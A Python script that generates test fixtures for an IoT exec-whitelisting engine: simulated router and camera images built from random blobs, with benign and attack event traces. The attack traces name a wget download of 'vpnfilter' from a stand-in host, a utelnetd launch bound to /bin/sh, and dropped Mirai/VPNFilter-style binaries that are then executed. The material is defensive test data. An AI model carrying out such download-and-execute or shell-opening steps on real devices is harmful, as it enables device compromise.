"""Regenerate the device fixtures under src/execguard/fixtures.

Binaries are small seeded random byte strings; only their digests matter.
BusyBox applets are separate paths that all map to the same busybox blob.
Expected denial seqs are counted here straight from the record lists (one seq
per engine-visible record, boot execs included after a reboot), without going
through the simulator.

    python scripts/make_fixtures.py [--out DIR]
"""

import argparse
import json
import random
import shutil
from pathlib import Path

HOUR = 3_600_000
MIN = 60_000
ENGINE_KO = "/lib/modules/execguard.ko"


def blob(rng, lo=64, hi=256):
    return bytes(rng.getrandbits(8) for _ in range(rng.randint(lo, hi)))


def periodic(period, offset, record, duration=HOUR):
    return [dict(record, t=t) for t in range(offset, duration, period)]


def ex(path, *args):
    return {"kind": "exec", "path": path, "args": list(args)}


def kill(sender, signal, target):
    return {"kind": "kill", "sender": sender, "signal": signal, "target": target}


def merge(*streams):
    events = [e for s in streams for e in s]
    return sorted(events, key=lambda e: e["t"])  # stable: ties keep listing order


DEVICES = {
    "router-a": {
        "description": "home router modeled on a Netgear WNR2000v3 profile (12 idle IDs)",
        "busybox": ["/bin/sh", "/bin/cat", "/bin/ps", "/bin/echo", "/bin/date", "/bin/ls", "/bin/grep",
                    "/bin/chmod", "/bin/kill", "/sbin/ifconfig", "/sbin/route", "/usr/bin/logger",
                    "/sbin/insmod", "/sbin/rmmod", "/bin/mount", "/usr/bin/wget", "/sbin/syslogd",
                    "/sbin/klogd", "/bin/sed", "/usr/bin/killall", "/bin/login"],
        "own": ["/usr/sbin/iwconfig", "/usr/sbin/ntpclient", "/usr/sbin/udhcpc", "/usr/sbin/wlanconfig",
                "/usr/sbin/httpd", "/usr/sbin/telnetenable", "/usr/sbin/utelnetd", "/usr/sbin/setup.cgi",
                "/usr/sbin/nvram", "/usr/sbin/dnsmasq", "/usr/sbin/iptables", "/usr/sbin/pppd",
                "/usr/sbin/upnpd", "/usr/sbin/email", "/usr/sbin/ddnsd", "/usr/sbin/wps_monitor",
                "/usr/sbin/bpalogin", "/usr/sbin/lld2", "/usr/sbin/acos_service", "/usr/sbin/tc"],
        "modules": ["wlan.ko"],
        "boot": ["/etc/init.d/rcS", "/sbin/syslogd", "/sbin/klogd", "/usr/sbin/httpd",
                 "/usr/sbin/telnetenable", "/usr/sbin/dnsmasq"],
    },
    "camera-b": {
        "description": "IP camera modeled on a ProVision PT-737E profile (CGI-driven web server)",
        "busybox": ["/bin/sh", "/bin/cat", "/bin/ps", "/bin/date", "/bin/chmod", "/bin/ls", "/bin/echo",
                    "/sbin/ifconfig", "/sbin/syslogd", "/bin/grep"],
        "own": ["/usr/bin/httpd", "/usr/bin/ntpd", "/usr/bin/encoder", "/system/www/cgi-bin/set_ftp.cgi",
                "/system/www/cgi-bin/get_status.cgi", "/system/www/cgi-bin/snapshot.cgi",
                "/system/www/cgi-bin/set_network.cgi", "/system/bin/ftpupload.sh", "/system/bin/motion"],
        "modules": ["sensor.ko"],
        "boot": ["/etc/init.d/rcS", "/sbin/syslogd", "/usr/bin/httpd", "/usr/bin/encoder"],
    },
    "camera-c": {
        "description": "IP camera modeled on a SimpleHome XCS7-1001 profile (telnet open, default credentials)",
        "busybox": ["/bin/sh", "/bin/cat", "/bin/ps", "/bin/ls", "/bin/date", "/bin/login", "/bin/chmod",
                    "/bin/echo", "/usr/sbin/telnetd", "/sbin/syslogd", "/bin/df", "/bin/free"],
        "own": ["/usr/bin/webs", "/usr/bin/ipcam", "/usr/bin/ntpdate", "/usr/bin/alarm",
                "/web/cgi-bin/get_params.cgi", "/web/cgi-bin/set_alarm.cgi", "/web/cgi-bin/videostream.cgi"],
        "modules": ["gpio.ko"],
        "boot": ["/etc/init.d/rcS", "/sbin/syslogd", "/usr/sbin/telnetd", "/usr/bin/webs", "/usr/bin/ipcam"],
    },
    "router-d": {
        "description": "router modeled on a Cisco Linksys E4200 profile (signals between httpd and preinit)",
        "busybox": ["/bin/sh", "/bin/cat", "/bin/ps", "/bin/date", "/sbin/ifconfig", "/sbin/route",
                    "/bin/kill", "/sbin/syslogd", "/bin/ls"],
        "own": ["/usr/sbin/httpd", "/sbin/preinit", "/sbin/rc", "/usr/sbin/dnsmasq", "/usr/sbin/nvram",
                "/usr/sbin/wl", "/usr/sbin/utelnetd", "/usr/sbin/ntpc", "/usr/sbin/apply.cgi",
                "/usr/sbin/iptables", "/usr/sbin/upnp"],
        "modules": ["et.ko"],
        "boot": ["/etc/init.d/rcS", "/sbin/preinit", "/sbin/syslogd", "/usr/sbin/httpd", "/usr/sbin/dnsmasq"],
    },
    "router-e": {
        "description": "router modeled on an ASUS RT-N56U profile (infosrv service, telnet enabled)",
        "busybox": ["/bin/sh", "/bin/cat", "/bin/ps", "/bin/ls", "/bin/login", "/usr/bin/wget",
                    "/sbin/ifconfig", "/usr/sbin/telnetd", "/sbin/syslogd", "/bin/date", "/bin/uname"],
        "own": ["/usr/sbin/infosrv", "/usr/sbin/httpd", "/usr/sbin/nvram", "/usr/sbin/watchdog",
                "/usr/sbin/ntp", "/usr/sbin/detect_wan"],
        "modules": ["rt2860v2_ap.ko"],
        "boot": ["/etc/init.d/rcS", "/sbin/syslogd", "/usr/sbin/infosrv", "/usr/sbin/httpd",
                 "/usr/sbin/telnetd", "/usr/sbin/watchdog"],
    },
    "camera-f": {
        "description": "IP camera modeled on a D-Link DCS-942L profile (20 idle IDs, heavy GUI use)",
        "busybox": ["/bin/sh", "/bin/cat", "/bin/ps", "/bin/echo", "/bin/date", "/bin/ls", "/bin/grep",
                    "/bin/sed", "/bin/awk", "/sbin/ifconfig", "/sbin/route", "/bin/sleep", "/bin/touch",
                    "/bin/rm", "/bin/cp", "/bin/mkdir", "/sbin/insmod", "/sbin/rmmod", "/bin/kill",
                    "/sbin/syslogd", "/usr/bin/killall", "/bin/df", "/bin/free"],
        "own": ["/usr/sbin/lighttpd", "/usr/sbin/mydlinkevent", "/usr/sbin/schedule", "/usr/sbin/ntpclient",
                "/usr/sbin/tdb", "/usr/sbin/rtspd", "/usr/sbin/pibinfo", "/usr/sbin/wifi_scan",
                "/usr/sbin/sdcard_check", "/usr/sbin/led_ctrl", "/usr/sbin/msger", "/usr/sbin/ddns",
                "/usr/sbin/mail_test", "/usr/sbin/ftp_test", "/usr/sbin/upnp_av", "/usr/sbin/ir_ctrl",
                "/var/www/cgi/admin/adv_audiovideo.cgi", "/var/www/cgi/admin/wireless.cgi",
                "/var/www/cgi/admin/motion.cgi", "/var/www/cgi/admin/sdcard.cgi",
                "/var/www/cgi/admin/network.cgi", "/var/www/cgi/admin/datetime.cgi",
                "/var/www/cgi/admin/ptz.cgi", "/var/www/cgi/admin/users.cgi",
                "/var/www/cgi/admin/firmware.cgi", "/var/www/cgi/admin/system.cgi"],
        "modules": ["usbcam.ko", "ir_led.ko"],
        "boot": ["/etc/init.d/rcS", "/sbin/syslogd", "/usr/sbin/lighttpd", "/usr/sbin/rtspd",
                 "/usr/sbin/schedule"],
    },
}


def traces_for(name):
    """Benign idle/interaction traces plus the attack trace for each device."""
    if name == "router-a":
        idle_paths = ["/bin/sh", "/bin/cat", "/bin/ps", "/bin/echo", "/bin/date", "/sbin/ifconfig",
                      "/sbin/route", "/usr/sbin/iwconfig", "/usr/sbin/ntpclient", "/usr/sbin/udhcpc",
                      "/usr/sbin/wlanconfig", "/usr/bin/logger"]
        idle = merge(*[periodic(10 * MIN, 30_000 * k, ex(p)) for k, p in enumerate(idle_paths)])
        gui = ["/usr/sbin/setup.cgi", "/usr/sbin/nvram", "/bin/ls", "/bin/grep", "/bin/sed",
               "/usr/sbin/iptables", "/usr/sbin/pppd", "/usr/sbin/upnpd", "/usr/sbin/email", "/usr/sbin/ddnsd",
               "/usr/sbin/wps_monitor", "/usr/sbin/bpalogin", "/usr/sbin/lld2", "/usr/sbin/acos_service",
               "/usr/sbin/tc", "/usr/bin/killall", "/bin/mount"]
        interaction = merge(idle, *[periodic(20 * MIN, 2 * MIN + 20_000 * k, ex(p)) for k, p in enumerate(gui)],
                            periodic(20 * MIN, 9 * MIN, kill("/usr/sbin/httpd", 1, "/usr/sbin/dnsmasq")))
        attack = [
            "# magic packet makes telnetenable start utelnetd, then the dropper runs the payload",
            dict(ex("/usr/sbin/utelnetd", "-p", "23", "-l", "/bin/sh"), t=0),
            {"t": 1000, "kind": "write", "path": "/tmp/vpnfilter", "file_ref": "malware.bin"},
            dict(ex("/tmp/vpnfilter"), t=1500),
        ]
        return idle, interaction, ("netgear-magic-packet", attack, [1, 2], 1, [],
                                   "TelnetEnable magic packet, then VPNFilter stage 1")
    if name == "camera-b":
        idle_paths = ["/bin/date", "/usr/bin/ntpd", "/system/bin/motion", "/bin/cat", "/sbin/ifconfig"]
        idle = merge(*[periodic(15 * MIN, MIN * k, ex(p)) for k, p in enumerate(idle_paths)])
        gui = ["/system/www/cgi-bin/get_status.cgi", "/system/www/cgi-bin/snapshot.cgi",
               "/system/www/cgi-bin/set_network.cgi", "/system/www/cgi-bin/set_ftp.cgi"]
        interaction = merge(idle, *[periodic(20 * MIN, 3 * MIN + 30_000 * k, ex(p)) for k, p in enumerate(gui)])
        attack = [
            "# system.ini is read by the whitelisted httpd itself (no exec); the FTP CGI then",
            "# runs chmod and ftpupload.sh carrying the injected command",
            dict(ex("/system/www/cgi-bin/set_ftp.cgi"), t=0),
            dict(ex("/bin/chmod", "+x", "/system/bin/ftpupload.sh"), t=200),
            dict(ex("/system/bin/ftpupload.sh"), t=400),
        ]
        return idle, interaction, ("cve-2017-8225", attack, [2, 3], 2, [1],
                                   "ini-file disclosure then command injection via the FTP CGI")
    if name == "camera-c":
        idle_paths = ["/usr/bin/ntpdate", "/usr/bin/alarm", "/bin/date", "/bin/df"]
        idle = merge(*[periodic(15 * MIN, 2 * MIN * k, ex(p)) for k, p in enumerate(idle_paths)])
        session = [ex("/bin/login"), ex("/bin/sh"), ex("/bin/cat", "/proc/mounts"), ex("/bin/ps"), ex("/bin/ls")]
        web = ["/web/cgi-bin/get_params.cgi", "/web/cgi-bin/set_alarm.cgi", "/web/cgi-bin/videostream.cgi"]
        interaction = merge(idle, *[periodic(30 * MIN, 5 * MIN + 10_000 * k, r) for k, r in enumerate(session)],
                            *[periodic(20 * MIN, 7 * MIN + 10_000 * k, ex(p)) for k, p in enumerate(web)])
        attack = [
            "# telnet login with factory credentials, shell recon, payload written with echo builtins",
            dict(ex("/bin/login"), t=0),
            dict(ex("/bin/sh"), t=500),
            dict(ex("/bin/cat", "/proc/mounts"), t=900),
            {"t": 1200, "kind": "write", "path": "/tmp/dvrHelper", "file_ref": "malware.bin"},
            dict(ex("/tmp/dvrHelper"), t=1500),
        ]
        return idle, interaction, ("mirai-telnet", attack, [4], 4, [1, 2, 3],
                                   "default telnet credentials, then the Mirai binary is dropped and run")
    if name == "router-d":
        idle_paths = ["/usr/sbin/ntpc", "/bin/date", "/usr/sbin/wl", "/bin/ps", "/sbin/ifconfig",
                      "/usr/sbin/nvram", "/bin/cat"]
        idle = merge(*[periodic(12 * MIN, MIN * k, ex(p)) for k, p in enumerate(idle_paths)],
                     periodic(30 * MIN, 10 * MIN, kill("/sbin/rc", 1, "/usr/sbin/dnsmasq")),
                     periodic(30 * MIN, 11 * MIN, kill("/bin/kill", 15, "/usr/sbin/upnp")))
        interaction = merge(idle, periodic(20 * MIN, 4 * MIN, ex("/usr/sbin/apply.cgi")),
                            periodic(20 * MIN, 4 * MIN + 5000, kill("/usr/sbin/httpd", 1, "/sbin/preinit")))
        attack = [
            "# injected command makes httpd signal preinit with SIGUSR1 to switch telnet on",
            dict(kill("/usr/sbin/httpd", 10, "/sbin/preinit"), t=0),
            {"t": 800, "kind": "write", "path": "/tmp/.m", "file_ref": "malware.bin"},
            dict(ex("/tmp/.m"), t=1000),
        ]
        return idle, interaction, ("cve-2013-2678", attack, [1, 2], 1, [],
                                   "SIGUSR1 from httpd to preinit enables telnet")
    if name == "router-e":
        idle_paths = ["/usr/sbin/ntp", "/usr/sbin/detect_wan", "/bin/date"]
        idle = merge(*[periodic(10 * MIN, MIN * k, ex(p)) for k, p in enumerate(idle_paths)])
        session = [ex("/bin/login"), ex("/bin/sh"), ex("/bin/cat", "/proc/cpuinfo"), ex("/bin/ls"),
                   ex("/bin/ps"), ex("/usr/sbin/nvram", "show"), ex("/sbin/ifconfig")]
        interaction = merge(idle, *[periodic(30 * MIN, 3 * MIN + 10_000 * k, r) for k, r in enumerate(session)])
        attack = [
            "# with telnet on, the injected commands run through the already whitelisted shell;",
            "# the malware download is the first new program",
            dict(ex("/bin/sh", "-c", "cat /proc/cpuinfo"), t=0),
            dict(ex("/bin/cat", "/proc/cpuinfo"), t=100),
            dict(ex("/usr/bin/wget", "http://198.51.100.7/vpnfilter"), t=300),
            {"t": 900, "kind": "write", "path": "/tmp/vpnfilter", "file_ref": "malware.bin"},
            dict(ex("/tmp/vpnfilter"), t=1000),
        ]
        return idle, interaction, ("cve-2014-9583-telnet-on", attack, [3, 4], 3, [1, 2],
                                   "infosrv command injection on a router with telnet enabled")
    if name == "camera-f":
        idle_paths = ["/bin/date", "/usr/sbin/ntpclient", "/usr/sbin/tdb", "/usr/sbin/pibinfo",
                      "/usr/sbin/wifi_scan", "/usr/sbin/sdcard_check", "/usr/sbin/led_ctrl", "/usr/sbin/msger",
                      "/usr/sbin/mydlinkevent", "/bin/cat", "/bin/grep", "/bin/sed", "/bin/sleep",
                      "/bin/touch", "/bin/rm", "/bin/echo", "/usr/sbin/ddns"]
        idle = merge(*[periodic(15 * MIN, 20_000 * k, ex(p)) for k, p in enumerate(idle_paths)],
                     periodic(30 * MIN, 12 * MIN, {"kind": "rmmod", "path": "/sbin/rmmod", "lkm_name": "ir_led"}),
                     periodic(30 * MIN, 12 * MIN + 1000, {"kind": "insmod", "path": "/sbin/insmod",
                                                          "lkm_name": "ir_led", "file_ref": "ir_led.ko"}),
                     periodic(30 * MIN, 13 * MIN, kill("/usr/sbin/schedule", 10, "/usr/sbin/rtspd")))
        gui = ["/var/www/cgi/admin/adv_audiovideo.cgi", "/var/www/cgi/admin/wireless.cgi",
               "/var/www/cgi/admin/motion.cgi", "/var/www/cgi/admin/sdcard.cgi", "/var/www/cgi/admin/network.cgi",
               "/var/www/cgi/admin/datetime.cgi", "/var/www/cgi/admin/ptz.cgi", "/var/www/cgi/admin/users.cgi",
               "/var/www/cgi/admin/system.cgi", "/usr/sbin/mail_test", "/usr/sbin/ftp_test", "/usr/sbin/upnp_av",
               "/usr/sbin/ir_ctrl", "/bin/ls", "/bin/ps", "/bin/awk", "/bin/cp", "/bin/mkdir", "/usr/bin/killall",
               "/bin/df", "/bin/free", "/sbin/ifconfig", "/sbin/route"]
        interaction = merge(idle, *[periodic(20 * MIN, 2 * MIN + 15_000 * k, ex(p)) for k, p in enumerate(gui)],
                            periodic(20 * MIN, 9 * MIN, kill("/usr/sbin/lighttpd", 1, "/usr/sbin/rtspd")))
        return idle, interaction, None
    raise KeyError(name)


def init_script(boot):
    lines = ["#!/bin/sh", f"/sbin/insmod {ENGINE_KO}"] + [p for p in boot[1:]]
    return ("\n".join(lines) + "\n").encode()


def write_trace(path, device, description, events, duration=HOUR):
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(json.dumps({"device": device, "description": description, "duration": duration}) + "\n")
        for e in events:
            fh.write(("# " + e[2:] if isinstance(e, str) else json.dumps(e, sort_keys=True)) + "\n")


def engine_visible_seqs(events, boot):
    """seq of each record (None for filesystem-only ones), counted by hand."""
    seqs, seq = [], 0
    for e in events:
        if isinstance(e, str):
            continue
        if e["kind"] in ("write", "delete"):
            seqs.append(None)
            continue
        seq += 1
        seqs.append(seq)
        if e["kind"] == "reboot":
            seq += len(boot)
    return seqs


def build(out: Path, seed: int = 20191):
    if out.exists():
        shutil.rmtree(out)
    for index, (name, cfg) in enumerate(sorted(DEVICES.items())):
        rng = random.Random(seed * 100 + index)
        root = out / name
        (root / "blobs").mkdir(parents=True)
        (root / "traces").mkdir()
        blobs = {"busybox.bin": blob(rng, 512, 1024), "execguard.ko": blob(rng, 256, 512),
                 "rcS": init_script(cfg["boot"]), "malware.bin": blob(rng)}
        files = {"/bin/busybox": "busybox.bin", "/etc/init.d/rcS": "rcS", ENGINE_KO: "execguard.ko"}
        for p in cfg["busybox"]:
            files[p] = "busybox.bin"
        for p in cfg["own"]:
            ref = p.strip("/").replace("/", "_") + ".bin"
            blobs[ref] = blob(rng)
            files[p] = ref
        for m in cfg["modules"]:
            blobs[m] = blob(rng)
            files[f"/lib/modules/{m}"] = m
        for ref, data in blobs.items():
            (root / "blobs" / ref).write_bytes(data)

        with open(root / "image.toml", "w", encoding="utf-8") as fh:
            fh.write("[device]\n")
            fh.write(f"name = {json.dumps(name)}\n")
            fh.write(f"description = {json.dumps(cfg['description'])}\n")
            fh.write(f'init_script = "/etc/init.d/rcS"\n')
            fh.write(f"engine_binary = {json.dumps(ENGINE_KO)}\n")
            fh.write(f"boot_exec = {json.dumps(cfg['boot'])}\n\n[files]\n")
            for p, ref in sorted(files.items()):
                fh.write(f"{json.dumps(p)} = {json.dumps(ref)}\n")

        idle, interaction, attack = traces_for(name)
        write_trace(root / "traces" / "idle.trace", name, "one hour without user interaction", idle)
        write_trace(root / "traces" / "interaction.trace", name, "one hour with GUI/shell use", interaction)
        if attack:
            sname, events, denials, first, allowed, summary = attack
            seqs = [s for s in engine_visible_seqs(events, cfg["boot"]) if s is not None]
            assert set(denials) | set(allowed) <= set(seqs) and first in denials
            write_trace(root / "traces" / f"{sname}.trace", name, summary, events, duration=2000)
            (root / "scenarios").mkdir()
            expect = {
                "name": sname,
                "summary": summary,
                "profile": ["idle", "interaction"],
                "attack": sname,
                "expected_denial_seqs": denials,
                "expected_first_denial": first,
                "expected_allowed_seqs": allowed,
            }
            (root / "scenarios" / f"{sname}.expect").write_text(json.dumps(expect, indent=2) + "\n")


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, default=Path(__file__).resolve().parent.parent / "src/execguard/fixtures")
    ap.add_argument("--seed", type=int, default=20191)
    args = ap.parse_args()
    build(args.out, args.seed)
    print(f"fixtures written to {args.out}")
